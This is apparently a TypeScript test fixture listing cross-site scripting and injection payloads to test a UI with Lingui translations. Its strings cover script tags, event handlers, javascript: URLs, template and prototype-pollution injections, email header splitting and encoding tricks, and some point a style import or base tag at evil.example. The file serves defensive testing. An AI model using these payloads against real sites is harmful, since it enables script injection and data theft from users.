/**
 * Texts that call `executed` or become an element with `data-planted` wherever a text is taken for
 * HTML, an attribute, an address, a script, a template or a header.
 */
export const payloads: readonly string[] = [
  '<script data-planted>executed(1)</script>',
  '</script><script data-planted>executed(1)</script>',
  '<img data-planted src=x onerror=executed(1)>',
  '"><img data-planted src=x onerror=executed(1)>',
  "'><svg data-planted onload=executed(1)>",
  '" autofocus onfocus=executed(1) data-planted="',
  "' onpointerover=executed(1) style=inset:0 data-planted='",
  '`><video data-planted><source onerror=executed(1)>',
  '<svg><animate data-planted onbegin=executed(1) attributeName=x>',
  '<svg><use data-planted href="data:image/svg+xml,<svg>">',
  '<math><mtext><a data-planted xlink:href=javascript:executed(1)>x',
  '<iframe data-planted srcdoc="<script>parent.executed(1)</script>">',
  '<style data-planted>@import"https:evil.example"</style>',
  '<base data-planted href=https:evil.example>',
  '<form data-planted action=javascript:executed(1)><button>x',
  '<details data-planted open ontoggle=executed(1)>',
  '</title></textarea></style></noscript><i data-planted>',
  '--><i data-planted>]]><i data-planted>',
  'javascript:executed(1)',
  'java\tscript:executed(1)',
  'data:text/html,<script>executed(1)</script>',
  '[x](javascript:executed(1)) ![x](x"onerror="executed(1))',
  '<javascript:executed(1)>',
  "{{constructor.constructor('executed(1)')()}}",
  '${executed(1)} #{executed(1)} <%= executed(1) %>',
  '{0} {name} {n, plural, other {<0>x</0>}} <0>x</0>',
  // Lingui looks for tags like these after it has put the values into a sentence.
  '<constructor/> <__proto__>x</__proto__> <0>x</0> <b/>',
  "'{'<script data-planted>executed(1)</script>'}'",
  '\u202E<img data-planted src=x onerror=executed(1)>',
  '＜img data-planted src=x onerror=executed(1)＞',
  '<scr\u0000ipt data-planted>executed(1)</scr\u0000ipt>',
  '\u2028executed(1)\u2029',
  '\\u003cimg data-planted src=x onerror=executed(1)\\u003e',
  '&lt;img data-planted src=x onerror=executed(1)&gt;',
  '&#60;img data-planted src=x onerror=executed(1)&#62;',
  '%3Cimg data-planted src=x onerror=executed(1)%3E',
  'Jane\r\nBcc: x\r\n\r\n<i data-planted>',
  '=?utf-8?q?=3Ci_data-planted=3E?=',
  '{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<i data-planted>"}}}',
]

/** One text with all of them, for fields of several lines. */
export const allPayloads = payloads.join('\n')
/** Leaves quotes and tags, also those of Lingui, for fields of one short line. */
export const shortPayload = `"'><svg data-planted onload=executed(1)><b/>`

/** A text for a field; the field's name is in it, so that it can be found on a screen. */
export type TextFor = (field: string, kind: 'line' | 'lines') => string
